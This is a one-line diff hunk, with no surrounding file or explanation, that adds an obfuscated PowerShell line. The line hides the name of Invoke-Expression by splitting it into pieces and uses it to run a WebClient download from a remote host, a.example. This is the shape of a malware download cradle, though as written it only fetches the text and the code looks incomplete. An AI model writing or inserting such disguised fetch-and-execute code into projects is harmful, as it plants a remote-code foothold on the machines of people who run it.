@@ -1,0 +1,1 @@
+$t='$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'; sv q ('ie'+'x'); .(Get-Variable q -ValueOnly) $t
